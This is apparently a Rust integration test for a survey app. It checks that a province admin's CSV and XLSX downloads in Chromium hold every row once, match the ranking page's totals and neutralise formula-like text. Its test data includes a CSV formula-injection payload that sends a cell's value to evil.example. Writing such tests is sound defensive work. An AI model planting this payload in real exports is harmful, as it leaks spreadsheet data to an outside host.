//! A province admin downloads the responses and the score report as CSV, and the scores as XLSX,
//! in Chromium, which asks for compressed answers (`Accept-Encoding: gzip, deflate, br, zstd`):
//! the files it saves hold every stored row, once, with formula-like text neutralised, and the
//! spreadsheet's totals are the ranking page's.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::Duration;

use app::store::responses::NewResponse;
use app::store::Backend;
use calamine::Reader;
use fantoccini::wd::WebDriverCompatibleCommand;
use fantoccini::Locator;
use hailong_tests::browser::{browser_available, Browser, RunningApp};
use hailong_tests::qr_response;
use survey_definitions::{Answer, AnswerValue};

const TAN_PHU: &str = "25195";
const THAC_MO: &str = "25217";
const SET: &str = "dong-nai-2026";
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Mở\")";
/// A stored response: id, commune code, channel, overall rating, comment.
type StoredResponse = (i64, String, String, Option<i64>, Option<String>);

/// Enough responses for many chunks of the compressed body.
const RESPONSES: usize = 2400;

/// A Chrome DevTools command sent through chromedriver's `goog/cdp/execute` endpoint.
#[derive(Debug)]
struct DevTools {
    cmd: &'static str,
    params: serde_json::Value,
}

impl WebDriverCompatibleCommand for DevTools {
    fn endpoint(
        &self,
        base: &url::Url,
        session: Option<&str>,
    ) -> Result<url::Url, url::ParseError> {
        base.join(&format!(
            "session/{}/goog/cdp/execute",
            session.unwrap_or_default()
        ))
    }

    fn method_and_body(&self, _: &url::Url) -> (http::Method, Option<String>) {
        let body = serde_json::json!({ "cmd": self.cmd, "params": self.params });
        (http::Method::POST, Some(body.to_string()))
    }
}

/// The one file named `prefix…extension` in `dir`, once Chromium has finished writing it.
async fn downloaded(dir: &Path, prefix: &str, extension: &str) -> PathBuf {
    for _ in 0..600 {
        let names: Vec<String> = std::fs::read_dir(dir)
            .unwrap()
            .filter_map(|e| e.ok())
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .collect();
        let in_progress = names.iter().any(|n| n.ends_with(".crdownload"));
        if let Some(name) = names
            .iter()
            .find(|n| n.starts_with(prefix) && n.ends_with(extension))
        {
            if !in_progress {
                return dir.join(name);
            }
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let names: Vec<_> = std::fs::read_dir(dir).unwrap().collect();
    panic!(
        "no finished download {prefix}*{extension} in {}: {names:?}",
        dir.display()
    );
}

/// A saved CSV file: UTF-8 with a byte order mark, read with the `csv` crate; the header and the
/// rows by the value of column `key`.
fn read_csv(path: &Path, key: &str) -> (Vec<String>, BTreeMap<String, Vec<String>>) {
    let bytes = std::fs::read(path).unwrap();
    assert!(
        bytes.starts_with("\u{feff}".as_bytes()),
        "a byte order mark"
    );
    let mut reader = csv::ReaderBuilder::new().from_reader(&bytes[3..]);
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let at = header.iter().position(|h| h == key).unwrap();
    let mut rows = BTreeMap::new();
    for record in reader.records() {
        let record: Vec<String> = record.unwrap().iter().map(String::from).collect();
        let previous = rows.insert(record[at].clone(), record);
        assert!(previous.is_none(), "each row once");
    }
    (header, rows)
}

fn answers(overall: u8, comment: Option<&str>) -> Vec<Answer> {
    let mut answers = vec![Answer {
        question_id: "overall".into(),
        value: AnswerValue::Scale(overall),
    }];
    if let Some(comment) = comment {
        answers.push(Answer {
            question_id: "comment".into(),
            value: AnswerValue::Text(comment.into()),
        });
    }
    answers
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_province_admin_downloads_whole_csv_files_in_chromium() {
    if !browser_available() {
        return;
    }
    let app = RunningApp::start(Backend::Sqlite).await;
    app.add_user("admin", "province_admin", "").await;
    let store = &app.state.store;
    let desks = store.list_current_desks(None).await.unwrap();
    let desk = |code: &str| desks.iter().find(|d| d.commune_code == code).unwrap().id;
    let (tan_phu, thac_mo) = (desk(TAN_PHU), desk(THAC_MO));
    // Within the last hour: the commune page links the last 30 days.
    let now = app::clock::now_ms();
    let answer_sets: Vec<Vec<Answer>> = (0..RESPONSES)
        .map(|i| answers(1 + (i % 5) as u8, (i % 3 == 0).then_some(FORMULA)))
        .collect();
    let keys: Vec<String> = (0..RESPONSES).map(|i| format!("browser-{i}")).collect();
    let batch: Vec<NewResponse> = (0..RESPONSES)
        .map(|i| {
            let desk = if i % 4 == 3 { thac_mo } else { tan_phu };
            qr_response(desk, &keys[i], now - 3_600_000 + i as i64, &answer_sets[i])
        })
        .collect();
    store.insert_responses(&batch).await.unwrap();
    let set = app.state.criteria.iter().find(|s| s.id == SET).unwrap();
    app::scores::runs::run_all(store, set, &app.state.definitions, "test")
        .await
        .unwrap();
    let browser = Browser::start(true).await;
    let c = &browser.client;
    let dir = std::env::temp_dir().join(format!("hailong-downloads-{}", rand::random::<u64>()));
    std::fs::create_dir_all(&dir).unwrap();
    c.issue_cmd(DevTools {
        cmd: "Browser.setDownloadBehavior",
        params: serde_json::json!({ "behavior": "allow", "downloadPath": dir.display().to_string() }),
    })
    .await
    .expect("Chromium saves downloads into the test's folder");
    browser.sign_in(&app, "admin").await;

    // The responses link of the commune's page.
    c.goto(&app.url(&format!("/commune?commune={TAN_PHU}")))
        .await
        .unwrap();
    c.find(Locator::Css("a[href^='/exports/responses.csv']"))
        .await
        .expect("the commune page links the CSV")
        .click()
        .await
        .unwrap();
    let (header, rows) = read_csv(
        &downloaded(&dir, "hailong-responses-", ".csv").await,
        "response_id",
    );

    let stored: Vec<StoredResponse> = sqlx::query_as(
        "select r.id, c.code, r.channel, o.value_int, m.value_text from responses r \
         join desks d on d.id = r.desk_id join admin_units c on c.id = d.commune_id \
         left join answers o on o.response_id = r.id and o.question_id = 'overall' \
         left join answers m on m.response_id = r.id and m.question_id = 'comment' \
         where c.code = $1 and r.excluded = 0",
    )
    .bind(TAN_PHU)
    .fetch_all(store.pool())
    .await
    .unwrap();
    assert_eq!(rows.len(), stored.len(), "every response of the commune");
    assert_eq!(stored.len(), RESPONSES / 4 * 3);
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    for (id, commune, channel, overall, comment) in stored {
        let row = &rows[&id.to_string()];
        assert_eq!(row[col("commune_code")], commune, "response {id}");
        assert_eq!(row[col("channel")], channel, "response {id}");
        assert_eq!(
            row[col("overall")],
            overall.unwrap().to_string(),
            "response {id}"
        );
        let comment = comment.map(|c| format!("'{c}")).unwrap_or_default();
        assert_eq!(row[col("comment")], comment, "response {id}");
    }

    // The CSV link of the ranking page.
    c.goto(&app.url(&format!("/ranking?criteria={SET}")))
        .await
        .unwrap();
    c.find(Locator::Css("a[href^='/exports/scores.csv']"))
        .await
        .expect("the ranking page links the CSV")
        .click()
        .await
        .unwrap();
    let (header, rows) = read_csv(
        &downloaded(&dir, "hailong-scores-", ".csv").await,
        "commune_code",
    );

    let stored: Vec<(String, i64, String, String)> = sqlx::query_as(
        "select u.code, s.total, s.input_hash, s.output_hash from score_results s \
         join admin_units u on u.id = s.unit_id",
    )
    .fetch_all(store.pool())
    .await
    .unwrap();
    assert_eq!(rows.len(), stored.len(), "every commune of the run");
    assert_eq!(stored.len(), 95, "Đồng Nai's communes today");
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    for (code, total, input, output) in stored {
        let row = &rows[&code];
        let total = scoring::Points::from_hundredths(total as u64).unwrap();
        assert_eq!(row[col("total")], total.to_string(), "{code}");
        assert_eq!(row[col("input_hash")], input, "{code}");
        assert_eq!(row[col("output_hash")], output, "{code}");
    }

    // The Excel link of the same page: the file a spreadsheet program opens (read with
    // calamine) gives every commune the total the page shows, as a number.
    let shown: Vec<(String, String)> = serde_json::from_value(
        c.execute(
            "return [...document.querySelectorAll('tr[data-commune]')].map(r => \
             [r.dataset.commune, r.querySelector('td.total').textContent.trim()]);",
            vec![],
        )
        .await
        .unwrap(),
    )
    .unwrap();
    assert_eq!(shown.len(), 95, "every commune on the page");
    c.find(Locator::Css("a[href^='/exports/scores.xlsx']"))
        .await
        .expect("the ranking page links the XLSX")
        .click()
        .await
        .unwrap();
    let path = downloaded(&dir, "hailong-scores-", ".xlsx").await;
    let mut book: calamine::Xlsx<_> = calamine::open_workbook(&path).expect("a workbook");
    let sheet = book
        .worksheet_range_at(0)
        .expect("a sheet")
        .expect("it reads");
    let mut lines = sheet.rows();
    let header: Vec<String> = lines
        .next()
        .unwrap()
        .iter()
        .map(|c| c.to_string())
        .collect();
    let at = |name: &str| header.iter().position(|h| h == name).unwrap();
    let totals: BTreeMap<String, f64> = lines
        .map(|r| {
            let total = match &r[at("total")] {
                calamine::Data::Float(f) => *f,
                calamine::Data::Int(i) => *i as f64,
                other => panic!("the total is a number: {other:?}"),
            };
            (r[at("commune_code")].to_string(), total)
        })
        .collect();
    assert_eq!(totals.len(), shown.len());
    for (code, on_page) in &shown {
        let on_page: f64 = on_page.replace('.', "").replace(',', ".").parse().unwrap();
        assert!(
            (totals[code] - on_page).abs() < 0.005,
            "{code}: the page shows {on_page}, the file holds {}",
            totals[code]
        );
    }
    browser.close().await;
    let _ = std::fs::remove_dir_all(&dir);
}
